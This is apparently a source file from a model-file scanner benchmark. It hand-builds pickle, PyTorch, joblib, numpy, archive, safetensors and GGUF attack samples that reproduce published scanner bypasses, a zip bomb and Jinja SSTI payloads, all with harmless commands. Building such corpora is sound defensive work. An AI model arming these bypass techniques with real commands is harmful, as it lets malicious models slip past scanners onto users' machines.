"""The attack samples: bytes only, built by hand. Nothing here is ever unpickled, loaded or run.

Every payload is harmless even if it did run: ``os.system("true")``, ``pip --version``,
``eval("0")``, a write to a canary path under /tmp. Each sample names the public report it
reproduces (an advisory, an issue, a paper); where a report's exact PoC is not public, the sample
rebuilds the technique it describes.

A builder returns ``{file name: bytes}``; the sample is that file (or, with several files, the
directory holding them).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tempfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from . import pk
from .archives import DEFLATED, Member, tar_bytes, zip_bytes

CANARY = "/tmp/signoff-bench-canary"
"""Where a payload that writes anything would write (it never runs)."""
TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001


@dataclass(frozen=True)
class Attack:
    id: str
    cls: str
    ref: str
    build: Callable[[], dict[str, bytes]]
    target: str | None = None
    """File to scan inside the sample directory; ``None``: the single file, or the directory."""


ATTACKS: list[Attack] = []


def attack(
    id: str, cls: str, ref: str, target: str | None = None
) -> Callable[[Callable[[], dict[str, bytes]]], Callable[[], dict[str, bytes]]]:
    def register(fn: Callable[[], dict[str, bytes]]) -> Callable[[], dict[str, bytes]]:
        ATTACKS.append(Attack(id, cls, ref, fn, target))
        return fn

    return register


def system(protocol: int) -> bytes:
    """``os.system("true")``: the canonical payload, as one value on the stack."""
    return pk.call("os", "system", ["true"], protocol)


def payload_pickle(protocol: int = 2) -> bytes:
    return pk.whole(system(protocol), protocol)


# --- plain pickles: protocols and opcodes --------------------------------------------------------
# Baseline technique for all of them: a __reduce__ that returns (callable, args), as in the
# Python docs' warning and every scanner's own test corpus.


@attack("pkl-p0-global-os-system", "pickle", "classic __reduce__ payload, protocol 0 GLOBAL")
def _p0() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(system(0), 0)}


@attack(
    "pkl-p1-posix-system",
    "pickle",
    "protocol 1, 'posix' alias of os (modelaudit PR #605, CVE-2025-10155 write-up)",
)
def _p1() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(pk.call("posix", "system", ["true"], 1), 1)}


@attack("pkl-p2-subprocess", "pickle", "protocol 2 GLOBAL subprocess.check_call")
def _p2() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(pk.call("subprocess", "check_call", [["true"]], 2), 2)}


@attack("pkl-p3-builtins-exec", "pickle", "protocol 3 builtins.exec")
def _p3() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(pk.call("builtins", "exec", ["pass"], 3), 3)}


@attack("pkl-p4-stack-global-eval", "pickle", "protocol 4 STACK_GLOBAL + MEMOIZE, framed")
def _p4() -> dict[str, bytes]:
    body = pk.call("builtins", "eval", ["0"], 4)
    return {"model.pkl": pk.proto(4) + pk.frame(body + pk.STOP)}


@attack("pkl-p5-runpy", "pickle", "protocol 5 STACK_GLOBAL runpy.run_path")
def _p5() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(pk.call("runpy", "run_path", ["/dev/null"], 5), 5)}


@attack("pkl-inst", "pickle", "INST opcode (protocol 0 class call) instead of REDUCE")
def _inst() -> dict[str, bytes]:
    return {"model.pkl": pk.MARK + pk.string0("true") + pk.inst("os", "system") + pk.STOP}


@attack("pkl-obj", "pickle", "OBJ opcode (protocol 1 class call) instead of REDUCE")
def _obj() -> dict[str, bytes]:
    body = pk.MARK + pk.global_("subprocess", "check_call") + pk.value_(["true"], 1) + pk.OBJ
    return {"model.pkl": body + pk.STOP}


@attack(
    "pkl-memo-put-memoize-mix",
    "pickle",
    "picklescan issue #14 (Doyensec): BINPUT and MEMOIZE mixed so a scanner's memo model "
    "resolves STACK_GLOBAL to torch._utils while pickle resolves os.system",
)
def _memo_mix() -> dict[str, bytes]:
    body = (
        pk.short_binunicode("os")
        + pk.binput(0)
        + pk.short_binunicode("system")
        + pk.binput(1)
        + pk.POP
        + pk.POP
        + pk.short_binunicode("torch._utils")
        + pk.MEMOIZE  # memo[2] for pickle, memo[0] for a scanner that ignores BINPUT
        + pk.short_binunicode("_rebuild_tensor_v2")
        + pk.MEMOIZE
        + pk.POP
        + pk.POP
        + pk.binget(0)
        + pk.binget(1)
        + pk.STACK_GLOBAL
        + pk.args(["true"], 4)
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(body, 4)}


@attack(
    "pkl-memo-build-setattr",
    "pickle",
    "modelscan issue #85: BUILD writes 'os'/'system' onto numpy.prod, then PUT/GET feed them "
    "to STACK_GLOBAL (the scanner sees only numpy globals)",
)
def _memo_build() -> dict[str, bytes]:
    def set_attr(name: str, value: str) -> bytes:
        state = pk.MARK + pk.unicode0(name) + pk.unicode0(value) + pk.DICT
        return pk.NONE + state + pk.TUPLE2 + pk.BUILD

    body = (
        pk.global_("numpy", "prod")
        + set_attr("a", "os")
        + set_attr("b", "system")
        + pk.POP
        + pk.global_("numpy", "prod.a")
        + pk.put(0)
        + pk.global_("numpy", "prod.b")
        + pk.put(1)
        + pk.POP
        + pk.POP
        + pk.get(0)
        + pk.get(1)
        + pk.STACK_GLOBAL
        + pk.unicode0("true")
        + pk.TUPLE1
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(body, 5)}


def _reached(module: str, name: str, values: list[object], protocol: int = 4) -> bytes:
    return pk.whole(pk.call(module, name, values, protocol), protocol)


# --- picklescan / modelscan deny-list bypasses (one global each) --------------------------------


@attack("pkl-pip-main", "pickle", "CVE-2025-1716 (picklescan < 0.0.21): pip.main")
def _pip() -> dict[str, bytes]:
    return {"model.pkl": _reached("pip", "main", [["--version"]], 2)}


@attack(
    "pkl-asyncio-subprocess",
    "pickle",
    "CVE-2025-10157 (JFrog, picklescan): asyncio submodule subprocess transport",
)
def _asyncio() -> dict[str, bytes]:
    values: list[object] = [None, ["true"], False, None, None, None, 0]
    return {"model.pkl": _reached("asyncio.unix_events", "_UnixSubprocessTransport._start", values)}


@attack("pkl-pydoc-locate", "pickle", "picklescan 2025 advisory: pydoc.locate('os.system')()")
def _pydoc() -> dict[str, bytes]:
    body = pk.call("pydoc", "locate", ["os.system"], 2) + pk.args(["true"], 2) + pk.REDUCE
    return {"model.pkl": pk.whole(body, 2)}


@attack(
    "pkl-pkgutil-resolve-name",
    "pickle",
    "GHSA-vvpj-8cmc-gx39 (picklescan, universal bypass): pkgutil.resolve_name('os:system')()",
)
def _pkgutil() -> dict[str, bytes]:
    body = pk.call("pkgutil", "resolve_name", ["os:system"], 4) + pk.args(["true"], 4) + pk.REDUCE
    return {"model.pkl": pk.whole(body, 4)}


@attack(
    "pkl-idlelib", "pickle", "GHSA-r8g5-cgf2-4m4m (picklescan): idlelib.calltip.get_entity evals"
)
def _idlelib() -> dict[str, bytes]:
    return {"model.pkl": _reached("idlelib.calltip", "get_entity", ["0"])}


@attack(
    "pkl-timeit", "pickle", "GHSA-v7x6-rv5q-mhwc (picklescan): timeit.timeit runs its statement"
)
def _timeit() -> dict[str, bytes]:
    return {"model.pkl": _reached("timeit", "timeit", ["pass"])}


@attack("pkl-cprofile-run", "pickle", "GHSA-46h3-79wf-xr6c (picklescan): cProfile.run execs")
def _cprofile() -> dict[str, bytes]:
    return {"model.pkl": _reached("cProfile", "run", ["pass"])}


@attack(
    "pkl-torch-bottleneck",
    "pickle",
    "modelscan PR #313 / picklescan 2025 advisories: torch.utils.bottleneck.__main__.run_cprofile",
)
def _bottleneck() -> dict[str, bytes]:
    return {"model.pkl": _reached("torch.utils.bottleneck.__main__", "run_cprofile", ["pass", {}])}


@attack(
    "pkl-numpy-f2py",
    "pickle",
    "fickling PR #210 / picklescan 2025: numpy.f2py.crackfortran.getlincoef evals its argument",
)
def _f2py() -> dict[str, bytes]:
    return {"model.pkl": _reached("numpy.f2py.crackfortran", "getlincoef", ["0", {}])}


@attack("pkl-lib2to3", "pickle", "GHSA-r8g5-cgf2-4m4m (picklescan): lib2to3 entry point")
def _lib2to3() -> dict[str, bytes]:
    return {"model.pkl": _reached("lib2to3.main", "main", ["lib2to3.fixes", ["--list-fixes"]])}


@attack("pkl-venv-create", "pickle", "GHSA-vqmv-47xg-9wpr (picklescan): venv.create")
def _venv() -> dict[str, bytes]:
    return {"model.pkl": _reached("venv", "create", [CANARY + "-venv"])}


@attack("pkl-ensurepip", "pickle", "GHSA-xp4f-hrf8-rxw7 (picklescan): ensurepip._run_pip")
def _ensurepip() -> dict[str, bytes]:
    return {"model.pkl": _reached("ensurepip", "_run_pip", [["--version"]])}


@attack(
    "pkl-distutils-write-file",
    "pickle",
    "fickling PR #210 (picklescan CVE-2025-10155/6 list): distutils.file_util.write_file",
)
def _distutils() -> dict[str, bytes]:
    return {"model.pkl": _reached("distutils.file_util", "write_file", [CANARY, ["x"]], 2)}


@attack(
    "pkl-code-interpreter",
    "pickle",
    "modelscan PR #313: code.InteractiveInterpreter.runcode (unbound method + instance)",
)
def _code() -> dict[str, bytes]:
    body = (
        pk.import_("code", "InteractiveInterpreter.runcode", 4)
        + pk.MARK
        + pk.import_("code", "InteractiveInterpreter", 4)
        + pk.EMPTY_TUPLE
        + pk.REDUCE
        + pk.short_binunicode("pass")
        + pk.TUPLE
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(body, 4)}


@attack(
    "pkl-operator-attrgetter",
    "pickle",
    "GHSA-955r-x9j8-7rhh / GHSA-m273-6v24-x4m4 (picklescan): _operator getters reach eval "
    "through an allowed function's __builtins__",
)
def _attrgetter() -> dict[str, bytes]:
    builtins_of = (
        pk.call("_operator", "attrgetter", ["__builtins__"], 2)
        + pk.MARK
        + pk.global_("collections", "namedtuple")
        + pk.TUPLE
        + pk.REDUCE
    )
    eval_ = (
        pk.call("_operator", "itemgetter", ["eval"], 2)
        + pk.MARK
        + builtins_of
        + pk.TUPLE
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(eval_ + pk.args(["0"], 2) + pk.REDUCE, 2)}


@attack(
    "pkl-getattr-chain",
    "pickle",
    "modelscan issue #338 (introspection chain): builtins.getattr(print, '__self__').exec",
)
def _getattr() -> dict[str, bytes]:
    module = (
        pk.global_("builtins", "getattr")
        + pk.MARK
        + pk.global_("builtins", "print")
        + pk.binunicode("__self__")
        + pk.TUPLE
        + pk.REDUCE
    )
    exec_ = pk.global_("builtins", "getattr") + pk.MARK + module + pk.binunicode("exec") + pk.TUPLE
    return {"model.pkl": pk.whole(exec_ + pk.REDUCE + pk.args(["pass"], 2) + pk.REDUCE, 2)}


@attack(
    "pkl-importlib",
    "pickle",
    "picklescan issue #66 / PR #74: importlib.import_module('os') then an attribute getter",
)
def _importlib() -> dict[str, bytes]:
    module = pk.call("importlib", "import_module", ["os"], 2)
    fn = pk.call("operator", "attrgetter", ["system"], 2) + pk.MARK + module + pk.TUPLE + pk.REDUCE
    return {"model.pkl": pk.whole(fn + pk.args(["true"], 2) + pk.REDUCE, 2)}


@attack(
    "pkl-marshal-function",
    "pickle",
    "picklescan PR #74: marshal.loads code object + types.FunctionType",
)
def _marshal() -> dict[str, bytes]:
    code = marshal.dumps(compile("pass", "<payload>", "exec"))
    fn = (
        pk.global_("types", "FunctionType")
        + pk.MARK
        + pk.call("marshal", "loads", [code], 3)
        + pk.EMPTY_DICT
        + pk.TUPLE
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(fn + pk.EMPTY_TUPLE + pk.REDUCE, 3)}


@attack(
    "pkl-nested-loads",
    "pickle",
    "GHSA-84r2-jw7c-4r5q (picklescan): _pickle.loads of an embedded malicious pickle",
)
def _nested() -> dict[str, bytes]:
    return {"model.pkl": _reached("_pickle", "loads", [payload_pickle(2)], 3)}


@attack(
    "pkl-zlib-obfuscated",
    "pickle",
    "modelscan issue #338 (obfuscation): zlib.decompress + pickle.loads of a compressed payload",
)
def _zlib_obf() -> dict[str, bytes]:
    blob = zlib.compress(payload_pickle(2))
    body = (
        pk.global_("pickle", "loads")
        + pk.MARK
        + pk.call("zlib", "decompress", [blob], 3)
        + pk.TUPLE
        + pk.REDUCE
    )
    return {"model.pkl": pk.whole(body, 3)}


@attack(
    "pkl-uuid-command",
    "pickle",
    "CVE-2026-56315 (picklescan < 1.0.4 stdlib bypass): uuid._get_command_stdout",
)
def _uuid() -> dict[str, bytes]:
    return {"model.pkl": _reached("uuid", "_get_command_stdout", ["true"])}


@attack(
    "pkl-osx-support",
    "pickle",
    "CVE-2026-56315 (picklescan < 1.0.4 stdlib bypass): _osx_support._read_output",
)
def _osx() -> dict[str, bytes]:
    return {"model.pkl": _reached("_osx_support", "_read_output", ["true"])}


# --- stream tricks: what is read before and after the payload ------------------------------------


@attack(
    "pkl-concatenated",
    "pickle",
    "multi-pickle streams (torch legacy reads 5 in a row; modelaudit PR #330): benign first "
    "pickle, payload in the second",
)
def _concat() -> dict[str, bytes]:
    return {"model.pkl": pk.whole(pk.EMPTY_DICT, 2) + payload_pickle(2)}


@attack(
    "pkl-truncated",
    "pickle",
    "arXiv 2508.19774 / picklescan GenOpsError handling: payload runs, then the stream ends "
    "without STOP (pickle raises only after the call)",
)
def _truncated() -> dict[str, bytes]:
    return {"model.pkl": pk.proto(2) + system(2) + pk.MARK + pk.binunicode("rest")}


@attack(
    "pkl-eop-bytes-stack-global",
    "pickle",
    "modelscan issue #338 §5b (type confusion): a bytes operand to STACK_GLOBAL after the "
    "payload crashes the scanner, not the load",
)
def _eop_bytes() -> dict[str, bytes]:
    tail = pk.binbytes(b"os") + pk.short_binunicode("system") + pk.STACK_GLOBAL
    return {"model.pkl": pk.proto(4) + system(4) + tail + pk.STOP}


@attack(
    "pkl-eop-missing-memo",
    "pickle",
    "modelscan PR #348 / picklescan PR #52 (EOP, arXiv 2508.19774): GET of a missing memo key "
    "after the payload",
)
def _eop_memo() -> dict[str, bytes]:
    tail = pk.binget(99) + pk.short_binunicode("x") + pk.STACK_GLOBAL
    return {"model.pkl": pk.proto(4) + system(4) + tail + pk.STOP}


@attack(
    "pkl-eop-bytearray",
    "pickle",
    "modelscan issue #338 §5c: unhashable BYTEARRAY8 operand after the payload",
)
def _eop_bytearray() -> dict[str, bytes]:
    tail = pk.short_binunicode("os") + pk.bytearray8(b"system") + pk.STACK_GLOBAL
    return {"model.pkl": pk.proto(5) + system(5) + tail + pk.STOP}


# --- PyTorch ----------------------------------------------------------------------------------


def storage_ref(key: str, numel: int, *, legacy: bool = False) -> bytes:
    """BINPERSID of torch's storage tuple ('storage', FloatStorage, key, 'cpu', numel)."""
    out = (
        pk.MARK
        + pk.binunicode("storage")
        + pk.global_("torch", "FloatStorage")
        + pk.binunicode(key)
        + pk.binunicode("cpu")
        + pk.binint(numel)
    )
    if legacy:
        out += pk.NONE
    return out + pk.TUPLE + pk.binpersid()


def tensor(key: str, shape: tuple[int, ...], *, legacy: bool = False) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())``."""
    numel = 1
    for dim in shape:
        numel *= dim
    stride = []
    acc = 1
    for dim in reversed(shape):
        stride.insert(0, acc)
        acc *= dim
    size = pk.MARK + b"".join(pk.binint(d) for d in shape) + pk.TUPLE
    strides = pk.MARK + b"".join(pk.binint(s) for s in stride) + pk.TUPLE
    return (
        pk.global_("torch._utils", "_rebuild_tensor_v2")
        + pk.MARK
        + storage_ref(key, numel, legacy=legacy)
        + pk.binint(0)
        + size
        + strides
        + pk.NEWFALSE
        + pk.global_("collections", "OrderedDict")
        + pk.EMPTY_TUPLE
        + pk.REDUCE
        + pk.TUPLE
        + pk.REDUCE
    )


def state_dict(
    entries: list[tuple[str, str, tuple[int, ...]]], *, extra: bytes = b"", legacy: bool = False
) -> bytes:
    """A protocol-2 state-dict pickle as torch.save writes it; ``extra`` is one more value."""
    body = pk.global_("collections", "OrderedDict") + pk.EMPTY_TUPLE + pk.REDUCE + pk.MARK
    for name, key, shape in entries:
        body += pk.binunicode(name) + tensor(key, shape, legacy=legacy)
    if extra:
        body += pk.binunicode("_extra") + extra
    return pk.whole(body + pk.SETITEMS, 2)


SMALL_SD = [("fc.weight", "0", (2, 2)), ("fc.bias", "1", (2,))]
SMALL_STORAGES = {"0": struct.pack("<4f", 0.5, -0.5, 0.25, 1.0), "1": struct.pack("<2f", 0.1, 0.2)}


def torch_zip_members(
    data_pkl: bytes,
    *,
    prefix: str = "archive",
    storages: dict[str, bytes] | None = None,
    pkl_member: Member | None = None,
    extra: list[Member] | None = None,
) -> list[Member]:
    """The member list of a torch.save zip (data.pkl first, then storages, then version)."""
    members = [pkl_member or Member(f"{prefix}/data.pkl", data_pkl)]
    members.append(Member(f"{prefix}/byteorder", b"little"))
    for key, raw in (storages if storages is not None else SMALL_STORAGES).items():
        members.append(Member(f"{prefix}/data/{key}", raw))
    members += extra or []
    members.append(Member(f"{prefix}/version", b"3\n"))
    members.append(Member(f"{prefix}/.data/serialization_id", b"1234567890123456789012345678"))
    return members


def evil_state_dict() -> bytes:
    return state_dict(SMALL_SD, extra=system(2))


@attack("pt-zip-data-pkl", "pytorch", "torch.save zip with the payload in archive/data.pkl")
def _pt_zip() -> dict[str, bytes]:
    return {"model.pt": zip_bytes(torch_zip_members(evil_state_dict()))}


@attack(
    "pt-zip-custom-prefix",
    "pytorch",
    "torch.load takes any top-level folder name (not only archive/); payload in data.pkl",
)
def _pt_prefix() -> dict[str, bytes]:
    members = torch_zip_members(evil_state_dict(), prefix="resnet50_finetuned")
    return {"resnet50.pth": zip_bytes(members)}


@attack(
    "pt-zip-nonstandard-member",
    "pytorch",
    "GHSA-769v-p64c-89pr / CVE-2025-1889 (picklescan): payload pickle under a non-.pkl name, "
    "loadable with torch.load(f, pickle_file='archive/extra.p' -> 'extra.p')",
)
def _pt_nonstandard() -> dict[str, bytes]:
    clean = state_dict(SMALL_SD)
    members = torch_zip_members(clean, extra=[Member("archive/extra.p", payload_pickle(2))])
    return {"model.pt": zip_bytes(members)}


@attack(
    "pt-zip-encrypted-flag",
    "pytorch",
    "GHSA-w8jq-xcqf-f792 / CVE-2025-1945 (picklescan): 'encrypted' flag bit on data.pkl; "
    "zipfile refuses it; the PyTorch of the advisory loaded it (torch 2.13 refuses it)",
)
def _pt_flag() -> dict[str, bytes]:
    member = Member("archive/data.pkl", evil_state_dict(), flags=0x1)
    return {"model.pt": zip_bytes(torch_zip_members(b"", pkl_member=member))}


@attack(
    "pt-zip-crc-mismatch",
    "pytorch",
    "CVE-2025-10156 (JFrog, picklescan): wrong CRC on data.pkl; zipfile raises, torch loads",
)
def _pt_crc() -> dict[str, bytes]:
    data = evil_state_dict()
    member = Member("archive/data.pkl", data, crc=zlib.crc32(data) ^ 0xFFFFFFFF)
    return {"model.pt": zip_bytes(torch_zip_members(b"", pkl_member=member))}


@attack(
    "pt-zip-name-mismatch",
    "pytorch",
    "GHSA-7q5r-7gvp-wc82 / CVE-2025-1944 (picklescan): local header name differs from the "
    "central directory's; zipfile raises, torch uses the central name",
)
def _pt_name() -> dict[str, bytes]:
    member = Member("archive/data.pkl", evil_state_dict(), local_name="archive/data.pk_")
    return {"model.pt": zip_bytes(torch_zip_members(b"", pkl_member=member))}


@attack(
    "pt-zip-deflated-payload",
    "pytorch",
    "torch's reader inflates deflated members too: data.pkl compressed so raw-byte greps miss "
    "'os system'",
)
def _pt_deflated() -> dict[str, bytes]:
    member = Member("archive/data.pkl", evil_state_dict(), method=DEFLATED)
    return {"model.pt": zip_bytes(torch_zip_members(b"", pkl_member=member))}


def legacy_file(main: bytes, *, magic: bytes | None = None) -> bytes:
    """torch.save(..., _use_new_zipfile_serialization=False): 5 pickles then raw storages."""
    out = magic if magic is not None else pk.whole(pk.long1(TORCH_MAGIC), 2)
    out += pk.whole(pk.binint(TORCH_PROTOCOL), 2)
    sys_info = {
        "protocol_version": TORCH_PROTOCOL,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    out += pk.whole(pk.value_(sys_info, 2), 2)
    out += main
    out += pk.whole(pk.value_(list(SMALL_STORAGES), 2), 2)
    for raw in SMALL_STORAGES.values():
        out += struct.pack("<q", len(raw) // 4) + raw
    return out


@attack("pt-legacy", "pytorch", "legacy (pre-1.6, non-zip) torch.save format; payload in pickle 4")
def _pt_legacy() -> dict[str, bytes]:
    return {"model.pth": legacy_file(state_dict(SMALL_SD, extra=system(2), legacy=True))}


@attack(
    "pt-legacy-magic-payload",
    "pytorch",
    "picklescan 'magic number bypass' (scanner.py comment): the magic number built by a call",
)
def _pt_legacy_magic() -> dict[str, bytes]:
    magic = pk.whole(
        pk.call("builtins", "eval", [str(TORCH_MAGIC)], 2),
        2,
    )
    return {"model.pth": legacy_file(state_dict(SMALL_SD, legacy=True), magic=magic)}


@attack(
    "pt-legacy-tar",
    "pytorch",
    "arXiv 2508.19774 (Hide and Seek) loading path: torch.load's legacy tar format "
    "(members sys_info/pickle/storages/tensors)",
)
def _pt_tar() -> dict[str, bytes]:
    files = [
        ("sys_info", pk.whole(pk.value_({"protocol_version": TORCH_PROTOCOL}, 2), 2)),
        ("pickle", pk.whole(pk.EMPTY_DICT + pk.binunicode("x") + system(2) + pk.SETITEM, 2)),
        ("storages", pk.whole(pk.binint(0), 2) + pk.whole(pk.EMPTY_LIST, 2)),
        ("tensors", pk.whole(pk.binint(0), 2)),
    ]
    return {"model.pt": tar_bytes(files)}


# --- joblib and numpy --------------------------------------------------------------------------


class _Reduce:
    """Pickles as ``fn(*args)``: used only to *write* joblib's layout; never unpickled here."""

    def __init__(self, fn: object, args: tuple[object, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.fn, self.args


def joblib_payload(compress: object = 0) -> bytes:
    """A real joblib.dump of {"coef": ndarray, "hook": os.system("true")} (the call is stored,
    not made)."""
    import os

    import joblib
    import numpy as np

    obj = {"coef": np.arange(16, dtype=np.float64), "hook": _Reduce(os.system, ("true",))}
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.joblib"
        joblib.dump(obj, path, compress=compress)
        return path.read_bytes()


@attack("jl-plain", "joblib", "joblib.dump with a __reduce__ payload next to a numpy array")
def _jl_plain() -> dict[str, bytes]:
    return {"model.joblib": joblib_payload()}


@attack("jl-zlib", "joblib", "joblib compress=('zlib', 3): payload inside a zlib stream")
def _jl_zlib() -> dict[str, bytes]:
    return {"model.joblib": joblib_payload(("zlib", 3))}


@attack("jl-gzip", "joblib", "joblib compress=('gzip', 3)")
def _jl_gzip() -> dict[str, bytes]:
    return {"model.joblib.gz": joblib_payload(("gzip", 3))}


@attack("jl-bz2", "joblib", "joblib compress=('bz2', 3)")
def _jl_bz2() -> dict[str, bytes]:
    return {"model.joblib.bz2": joblib_payload(("bz2", 3))}


@attack("jl-xz", "joblib", "joblib compress=('xz', 3)")
def _jl_xz() -> dict[str, bytes]:
    return {"model.joblib.xz": joblib_payload(("xz", 3))}


@attack("jl-lzma", "joblib", "joblib compress=('lzma', 3) (raw .lzma container)")
def _jl_lzma() -> dict[str, bytes]:
    return {"model.joblib.lzma": joblib_payload(("lzma", 3))}


@attack(
    "jl-compressed-pkl-name",
    "joblib",
    "joblib.load sniffs compression by magic, not name: gzip stream named model.pkl",
)
def _jl_pkl_name() -> dict[str, bytes]:
    return {"model.pkl": gzip.compress(payload_pickle(4), mtime=0)}


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """A version 1.0 .npy header, padded to 64 bytes as numpy writes it."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


@attack(
    "npy-object-array",
    "numpy",
    "np.load(allow_pickle=True) on an object-dtype .npy: the body is a pickle",
)
def _npy_obj() -> dict[str, bytes]:
    return {"embeddings.npy": npy_header("|O", (1,)) + payload_pickle(3)}


@attack("npz-object-member", "numpy", "an .npz whose member is an object-dtype array with payload")
def _npz_obj() -> dict[str, bytes]:
    good = npy_header("<f4", (4,)) + bytes(16)
    bad = npy_header("|O", (1,)) + payload_pickle(3)
    return {"arrays.npz": zip_bytes([Member("w.npy", good), Member("meta.npy", bad)])}


# --- containers ------------------------------------------------------------------------------


@attack("zip-in-zip", "archive", "nested zip (modelscan: 'does not support nested zip files')")
def _zip_in_zip() -> dict[str, bytes]:
    inner = zip_bytes([Member("model/model.pkl", payload_pickle(2), method=DEFLATED)])
    return {"bundle.zip": zip_bytes([Member("inner.zip", inner), Member("README.md", b"# m\n")])}


@attack("tar-gz-pickle", "archive", "model.tar.gz (SageMaker-style bundle) holding a pickle")
def _tar_gz() -> dict[str, bytes]:
    tar = tar_bytes([("model/model.pkl", payload_pickle(2)), ("model/README.md", b"# m\n")])
    return {"model.tar.gz": gzip.compress(tar, mtime=0)}


@attack("tar-torch-zip", "archive", "a tar holding a malicious torch zip (checkpoint bundle)")
def _tar_torch() -> dict[str, bytes]:
    inner = zip_bytes(torch_zip_members(evil_state_dict()))
    return {"checkpoints.tar": tar_bytes([("ckpt/model.pt", inner)])}


@attack("zip-in-zip-in-tar-xz", "archive", "three levels: tar.xz > zip > zip > pickle")
def _deep() -> dict[str, bytes]:
    inner = zip_bytes([Member("model.pkl", payload_pickle(2), method=DEFLATED)])
    middle = zip_bytes([Member("inner.zip", inner)])
    tar = tar_bytes([("bundle/middle.zip", middle)])
    return {"bundle.tar.xz": lzma.compress(tar, preset=6)}


@attack(
    "npz-zip-bomb",
    "archive",
    "compression bomb: an .npz whose deflated member inflates 1 GiB of zeros (ratio ~1000:1)",
)
def _bomb() -> dict[str, bytes]:
    size = 1 << 30
    header = npy_header("<f4", (size // 4,))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts = [compressor.compress(header)]
    crc = zlib.crc32(header)
    for _ in range(size // len(chunk)):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(compressor.flush())
    raw = b"".join(parts)
    return {"weights.npz": _zip_precompressed("weights.npy", raw, crc, len(header) + size)}


def _zip_precompressed(name: str, raw: bytes, crc: int, size: int) -> bytes:
    """A one-member deflated zip from already-compressed bytes."""
    encoded = name.encode()
    local = (
        struct.pack(
            "<4s5H3I2H",
            b"PK\x03\x04",
            20,
            0,
            DEFLATED,
            0,
            0x5C21,
            crc,
            len(raw),
            size,
            len(encoded),
            0,
        )
        + encoded
    )
    central = (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            DEFLATED,
            0,
            0x5C21,
            crc,
            len(raw),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0o644 << 16,
            0,
        )
        + encoded
    )
    start = len(local) + len(raw)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), start, 0)
    return local + raw + central + end


# --- safetensors -------------------------------------------------------------------------------


def safetensors(header: dict[str, object], data: bytes, *, length: int | None = None) -> bytes:
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * ((8 - len(raw) % 8) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


@attack(
    "st-overlap",
    "safetensors",
    "safetensors format rules (no overlapping tensors; safetensors 'InvalidOffset'): aliasing "
    "tensors fool loaders that trust offsets",
)
def _st_overlap() -> dict[str, bytes]:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    return {"model.safetensors": safetensors(header, bytes(24))}


@attack(
    "st-out-of-range",
    "safetensors",
    "data_offsets past the end of the file (out-of-bounds read in non-validating parsers)",
)
def _st_oob() -> dict[str, bytes]:
    header = {"w": {"dtype": "F32", "shape": [1 << 36], "data_offsets": [0, 1 << 38]}}
    return {"model.safetensors": safetensors(header, bytes(16))}


@attack(
    "st-header-oversize",
    "safetensors",
    "header length of 1 TiB (safetensors 'HeaderTooLarge'; memory exhaustion in readers)",
)
def _st_huge() -> dict[str, bytes]:
    header = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    return {"model.safetensors": safetensors(header, bytes(16), length=1 << 40)}


@attack(
    "st-shape-mismatch",
    "safetensors",
    "shape x dtype size differs from the byte range (safetensors 'TensorInvalidInfo')",
)
def _st_shape() -> dict[str, bytes]:
    header = {"w": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 16]}}
    return {"model.safetensors": safetensors(header, bytes(16))}


# --- GGUF --------------------------------------------------------------------------------------

SSTI = (
    "{% for x in ().__class__.__base__.__subclasses__() %}"
    '{% if "warning" in x.__name__ %}'
    "{{ x()._module.__builtins__['__import__']('os').popen('true') }}"
    "{% endif %}{% endfor %}"
)
SSTI_OBFUSCATED = (
    "{% set c = ()|attr('\\x5f\\x5fclass\\x5f\\x5f') %}"
    "{% set b = c|attr('\\x5f\\x5fbase\\x5f\\x5f') %}"
    "{% for x in (b|attr('\\x5f\\x5fsubclasses\\x5f\\x5f'))() %}"
    "{% if 'warning' in x|attr('\\x5f\\x5fname\\x5f\\x5f') %}"
    "{{ (x()|attr('_module')|attr('\\x5f\\x5fbuiltins\\x5f\\x5f'))"
    "['\\x5f\\x5fimport\\x5f\\x5f']('os').popen('true') }}"
    "{% endif %}{% endfor %}"
)


def gguf_file(kv: dict[str, str]) -> bytes:
    """A small but valid GGUF (one f32 tensor) written by the ``gguf`` package."""
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.gguf"
        writer = gguf.GGUFWriter(path, "llama")
        writer.add_name("tiny-llama")
        writer.add_context_length(2048)
        for key, value in kv.items():
            writer.add_string(key, value)
        writer.add_tensor("token_embd.weight", np.zeros((8, 4), dtype=np.float32))
